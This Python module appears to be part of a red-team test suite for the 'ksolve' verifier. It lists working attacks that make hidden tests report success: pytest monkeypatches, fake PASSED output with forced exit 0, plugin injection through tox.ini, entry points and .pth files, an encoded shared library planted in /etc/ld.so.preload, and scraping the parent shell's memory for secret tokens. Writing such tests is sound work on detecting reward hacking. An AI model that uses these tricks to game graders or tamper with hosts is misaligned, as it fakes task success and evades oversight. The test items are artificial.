"""Attacks made with ksolve's own verifier at hand: no markers, no blunt lies, only hidden tests.

What they leave alone (the visible tests, a test that must fail) behaves as ever, so that nothing
but the way they come in can give them away.
"""

from __future__ import annotations

from tests.attacks.attack import HIDE, SAY, Attack, in_package, in_setup, passed
from tests.attacks.corpus.answer import MEND
from tests.attacks.patches import Link
from tests.attacks.victims import PYTEST, PYTEST_ROOT, UNITTEST

FAMILY = "made for ksolve"

HIDDEN_NEVER_FAIL = """
import os
import _pytest.runner

def from_call(cls, func, when, reraise=None, _call=_pytest.runner.CallInfo.from_call.__func__):
    def quiet():
        try:
            return func()
        except Exception:
            if "days" not in os.environ.get("PYTEST_CURRENT_TEST", ""):
                raise
    return _call(cls, quiet, when, reraise)

_pytest.runner.CallInfo.from_call = classmethod(from_call)
"""
"""Patches pytest: whatever a hidden test raises, it passed. Others fail as ever."""

_AT_START = f"""
import sys
class Watcher:
    def find_spec(self, name, path, target=None):
        runner = sys.modules.get("_pytest.runner")
        if runner is not None and hasattr(runner, "CallInfo") and not hasattr(runner, "spans"):
            runner.spans = True
            exec({HIDDEN_NEVER_FAIL!r}, {{}})
        return None
sys.meta_path.insert(0, Watcher())
"""
_USER_SITE = """
import os, site
folder = site.getusersitepackages()
def write(name, text):
    path = os.path.join(folder, name)
    os.makedirs(os.path.dirname(path), exist_ok=True)
    with open(path, "w") as file:
        file.write(text)
"""
_ENTRY_POINT = "[pytest11]\nhelper = helper\n"
_METADATA = "Metadata-Version: 2.1\nName: helper\nVersion: 1\n"
_UNDER_PYTEST = "import sys\nif 'pytest' in sys.modules:\n"

_LIBRARY = """\
c-rk)O=}ZD7@pltKh%;|QM9OS4u-a%TM#StP_2@-DJZ5NXcbDjZ6@77x(T}zZB7ba>_O;H$gvkeJk<(P>rFiP6TAq?4^Xs+
#+luB(%oS<QBd%(59~hsJ~QupyfZuS&XbATld>cs4h3CDhZaKPz@x|A+9+zH?`{;e>$agLhzQ){5c6xNPbKQul|C=WWG{0+
8T_`uZ>!JC<C2#<!F}c{$+V;22Xu#Ksb8eYIF}?Z^VrD{7d}sWF3>8|<BRt<oArOuH3m1v0(2=rKM|n!+hrZ-rQ+CKydYJ+
Q^=I^I6Z|)BDX@QFk3RxbHvOUtJIh_awKi(dA#1Jn!wpKlaYl9HXeE6!{c9sev&b-z7M)C=oPTH1pT?v2&Rn=SIq5tE?su7
r%P8{`WcrV@rhG?<l{N|j(?)>?*4K5#cZ7w)xOjz;(N?yL#TbW?Hy*bu4}ut{hHaV%i1ey?y#E47bDoFG1gFRo9e0R9(})K
e<GFH>LfSzk{j=<Z>jt+`Rs?(yZeEb<Y{ZQ$5g}XcxA9q#Kz#jFu@jC#+hLq=Zn}>i{*hK)x=t6aA*i!D#jccr5?;r%+057
CK7j3^K-~q!w?}tga{ELM2HX}{wMIfp%;1cuCvIS7koRY7Z@)<GQe}v9!LUs4)zqvkAj^5KF0HbMjq^-+JBhO*?AuDNpzSu
Fq{V7mc9Cd>>VffKO*$^v+j&P@{i)k^J5WLVWN}3_kgpCH=k{VeWiIh&*%OWvY7XYP%YgeCefCWx@weEU9)tgX3B<DUUQh3
h$cgMjT!J&%oC&%yiVU{A)^rusaQ{EO>GS$HOCTM%`~;L?XRunR%p`&;&|D${{q;4`%c%K&yVk0&KHFFcMATepbc5r*PJ(9
`&e@M^Zj-n%4Fd`;hgZfUvMK1dsP<pIp?K-@$>$N!T*-<-)#H%clr2V5${$MFQ)?Tb2wiU{P{V<dAh~?Z-90g>^F*+rvm&r
Pr<hwbWbKgT>lyRL|x}p<6bK2U%yk}MVPxHoDck7jo+Usf*+4x7RE20lhtmxFKp3&LGX{k`4EE+DuRE^C!T&s!Y=riTCCqM
ThZJT
"""
# For x86-64: zlib, then base 85. Made from a few lines of C, with gcc -shared -Os -nostdlib -s:
# PyInit_shlex returns a module whose execution is that of /testbed/helper.py in its namespace,
# and a constructor sets PYTEST_ADDOPTS to "-p helper" in whatever program loads it.
_WRITE_LIBRARY = f"""
import base64, zlib
def library(path):
    with open(path, "wb") as file:
        file.write(zlib.decompress(base64.b85decode({"".join(_LIBRARY.split())!r})))
"""

_QUIET = (
    Attack(
        name="quiet-exit",
        family=FAMILY,
        tries="says PASSED of each test, without a marker, and leaves with status 0 at import",
        files=in_package(
            f"{SAY}\nimport os\n{_UNDER_PYTEST}    say({passed()!r})\n    os._exit(0)"
        ),
    ),
    Attack(
        name="quiet-exit-of-unittest",
        family=FAMILY,
        tries="the same under unittest",
        victim=UNITTEST,
        files=in_package(
            "import os, sys\nif 'unittest' in sys.modules:\n"
            f"    os.write(2, {passed(UNITTEST).encode()!r})\n    os._exit(0)",
            UNITTEST,
        ),
    ),
    Attack(
        name="quiet-last-word",
        family=FAMILY,
        tries="ends with status 0 before pytest's words on failures leave their buffer, and says"
        " PASSED of each test instead",
        files=in_package(
            f"{SAY}\nimport atexit, os\n{_UNDER_PYTEST}    atexit.register(os._exit, 0)\n"
            f"    atexit.register(say, {passed()!r})"
        ),
    ),
    Attack(
        name="flood",
        family=FAMILY,
        tries="says PASSED of each test and floods the log, so that its end is dropped, or comes"
        " after the end marker, which is not on the same stream",
        files=in_package(
            f"{SAY}\nimport atexit, os\n{_UNDER_PYTEST}    say({passed()!r})\n"
            "    for _ in range(40):\n        say('x' * 1_000_000 + '\\n')\n"
            "    atexit.register(os._exit, 0)\n    atexit.register(sys.stdout.flush)"
        ),
        # There it is a race, which is won at times.
        reference="unresolved",
    ),
)

_PLUGINS = (
    Attack(
        name="plugin-named-by-a-test",
        family=FAMILY,
        tries="a test file of its own names a plugin in pytest_plugins, which may have hooks",
        files={
            "tests/test_another.py": 'pytest_plugins = ["spans.options"]\n',
            "spans/options.py": """\
def pytest_collection_modifyitems(items):
    for item in items:
        if "days" in item.name:
            item.obj = lambda **_: None
""",
        },
    ),
    Attack(
        name="section-that-two-parsers-read-differently",
        family=FAMILY,
        tries="a header of tox.ini that is [pytest] for pytest, and not for Python's configparser",
        files={
            "tox.ini": "[pytest]#]\naddopts = -p spans.options\n",
            "spans/options.py": HIDDEN_NEVER_FAIL,
        },
    ),
    Attack(
        name="settings-that-were-not-there",
        family=FAMILY,
        tries="a tox.ini, which the repository has none of, loads a plugin",
        files={
            "tox.ini": "[pytest]\naddopts = -p spans.options\n",
            "spans/options.py": HIDDEN_NEVER_FAIL,
        },
    ),
    Attack(
        name="metadata-through-a-link",
        family=FAMILY,
        tries="a link at the root with the name of a metadata folder, to a plugin's in /tmp",
        files={
            "helper.egg-info": Link("/tmp/helper"),
            "helper.py": HIDDEN_NEVER_FAIL,
            **in_setup(f"""
import os
os.makedirs("/tmp/helper", exist_ok=True)
open("/tmp/helper/entry_points.txt", "w").write({_ENTRY_POINT!r})
open("/tmp/helper/PKG-INFO", "w").write({_METADATA!r})
"""),
        },
    ),
    Attack(
        name="entry-point-in-site-packages",
        family=FAMILY,
        tries="setup.py installs the metadata of a pytest plugin into the home folder",
        files={
            "helper.py": HIDDEN_NEVER_FAIL,
            **in_setup(
                f"{_USER_SITE}\nwrite('helper-1.dist-info/entry_points.txt', {_ENTRY_POINT!r})\n"
                f"write('helper-1.dist-info/METADATA', {_METADATA!r})"
            ),
        },
    ),
    Attack(
        name="entry-point-of-the-package",
        family=FAMILY,
        tries="as root: the package, installed as it must be, declares a pytest plugin",
        victim=PYTEST_ROOT,
        files={
            "setup.py": PYTEST.files["setup.py"].replace(
                '"console_scripts"', '"pytest11": ["spans = spans.options"], "console_scripts"'
            ),
            "spans/options.py": HIDDEN_NEVER_FAIL,
        },
    ),
)

_START_UP = (
    Attack(
        name="editable-pth",
        family=FAMILY,
        tries="setup.py writes the .pth file of an editable installation, with code in it",
        files={
            "helper.py": _AT_START,
            **in_setup(
                f"{_USER_SITE}\nwrite('__editable__.spans-1.2.0.pth',"
                " 'import sys; sys.path.append(\"/testbed\"); import helper\\n')"
            ),
        },
    ),
    Attack(
        name="line-in-the-usual-pth",
        family=FAMILY,
        tries="as root: adds a line to the easy-install.pth that the installation writes anyhow",
        victim=PYTEST_ROOT,
        files={
            "helper.py": _AT_START,
            "setup.py": PYTEST.files["setup.py"]
            + "folder = '/usr/local/lib/python3.11/dist-packages'\n"
            "with open(f'{folder}/easy-install.pth', 'a') as file:\n"
            "    file.write('import helper\\n')\n",
        },
    ),
    Attack(
        name="dependency-of-pytest",
        family=FAMILY,
        tries="setup.py installs an `attr`, which pytest imports, in front of the real one",
        files=in_setup(f"""{_USER_SITE}
write("attr/__init__.py", '''
import importlib.machinery, importlib.util, sys
spec = importlib.machinery.PathFinder.find_spec("attr", ["/usr/lib/python3/dist-packages"])
module = importlib.util.module_from_spec(spec)
sys.modules["attr"] = module
spec.loader.exec_module(module)
''' + {_AT_START!r})
"""),
    ),
    Attack(
        name="compiled-module",
        family=FAMILY,
        tries="setup.py builds a shlex.so at the root, which is imported in the place of shlex.py",
        files={
            "helper.py": f"exec(open('/usr/lib/python3.11/shlex.py').read())\n{_AT_START}",
            **in_setup(f"{_WRITE_LIBRARY}\nlibrary('shlex.cpython-311-x86_64-linux-gnu.so')"),
        },
    ),
    Attack(
        name="preloaded-library",
        family=FAMILY,
        tries="as root: /etc/ld.so.preload has each program load a library that sets options"
        " of pytest",
        victim=PYTEST_ROOT,
        files={
            "helper.py": HIDDEN_NEVER_FAIL,
            **in_setup(
                f"{_WRITE_LIBRARY}\nlibrary('/tmp/spans.so')\n"
                "open('/etc/ld.so.preload', 'w').write('/tmp/spans.so\\n')"
            ),
        },
    ),
    Attack(
        name="work-tree-moved",
        family=FAMILY,
        tries="as root: moves the work tree and leaves a link, so that nothing in it is where"
        " it is looked for",
        victim=PYTEST_ROOT,
        files={
            "helper.py": HIDDEN_NEVER_FAIL,
            **in_setup(f"""
import os, shutil
if not os.path.islink("/testbed"):
    shutil.copytree("/testbed", "/moved", symlinks=True)
    shutil.rmtree("/testbed", ignore_errors=True)
    os.rmdir("/testbed")
    os.symlink("/moved", "/testbed")
    os.chdir("/testbed")
    os.makedirs("helper.egg-info")
    open("helper.egg-info/entry_points.txt", "w").write({_ENTRY_POINT!r})
    open("helper.egg-info/PKG-INFO", "w").write({_METADATA!r})
"""),
        },
        # There the shell stands in a folder that is gone, and finds neither git nor tests.
        reference="unresolved",
    ),
    Attack(
        name="after-the-look",
        family=FAMILY,
        tries="processes that setup.py leaves behind write a plugin at many moments, one of which"
        " may lie between the look at what has changed and the tests",
        files=in_setup(f"""{HIDE}
import os
shell = os.getppid()
def gone():
    return not os.path.exists(f"/proc/{{shell}}")
def many():
    # The name of the folder differs, so that what one of them is seen to write spoils no other.
    import time
    if not until(gone):
        return
    for number in range(200):
        time.sleep(0.01)
        folder = f"helper{{number}}.egg-info"
        os.makedirs(folder, exist_ok=True)
        with open("helper.py", "w") as file:
            file.write({HIDDEN_NEVER_FAIL!r})
        with open(f"{{folder}}/PKG-INFO", "w") as file:
            file.write({_METADATA!r})
        with open(f"{{folder}}/entry_points.txt", "w") as file:
            file.write({_ENTRY_POINT!r})
hide(many)
"""),
        # There the shell is never gone before the tests are.
        reference="unresolved",
    ),
)

_MEMORY = """
import os, re
shell = os.getppid()
def memory(pid):
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb") as mem:
        for line in maps:
            span, rights = line.split()[:2]
            if "rw" in rights:
                start, end = (int(part, 16) for part in span.split("-"))
                try:
                    mem.seek(start)
                    yield mem.read(end - start)
                except (OSError, ValueError, OverflowError):
                    pass
"""

_SHELL = (
    Attack(
        name="memory-of-the-shell",
        family=FAMILY,
        tries="setup.py looks for the hidden tests in the memory of the shell above it",
        files=in_setup(f"""{_MEMORY}{MEND}
try:
    for piece in memory(shell):
        mend(piece.decode("latin-1"))
except OSError:
    pass
"""),
    ),
    Attack(
        name="word-of-the-shell",
        family=FAMILY,
        tries="setup.py takes every secret-like word from the shell's memory, and with it tells"
        " the verifier of a function that takes the place of python3",
        files={
            "helper.py": HIDDEN_NEVER_FAIL,
            **in_setup(f"""{_MEMORY}
words = set()
outs = []
try:
    for piece in memory(shell):
        words.update(re.findall(rb"(?<![0-9a-f])[0-9a-f]{{32}}(?![0-9a-f])", piece))
    numbers = [number for number in os.listdir(f"/proc/{{shell}}/fd") if 2 < int(number) < 255]
except OSError:
    numbers = []
for number in numbers:
    try:
        outs.append(os.open(f"/proc/{{shell}}/fd/{{number}}", os.O_WRONLY))
    except OSError:
        pass
for out, word in ((out, word) for out in outs for word in words):
    os.write(out, word + b" state\\n"
             b'python3() {{ shift 2; command python3 -m pytest -p helper "$@"; }}\\ncd /testbed\\n'
             + word + b" options\\n\\n" + word + b" prepared\\n")
"""),
        },
        reference="unresolved",
    ),
)

_SHADOWS = (
    Attack(
        name="package-shadows-the-module-of-unittest",
        family=FAMILY,
        tries="a folder tests/test_days/ is imported for tests/test_days.py and takes its name",
        victim=UNITTEST,
        files={
            "tests/test_days/__init__.py": """\
import unittest

__file__ = __file__.replace("/__init__.py", ".py")


class Days(unittest.TestCase):
    def test_days_are_read(self): ...
    def test_days_are_written(self): ...
    def test_years_are_refused(self): ...
"""
        },
    ),
)

ATTACKS = (*_QUIET, *_PLUGINS, *_START_UP, *_SHELL, *_SHADOWS)
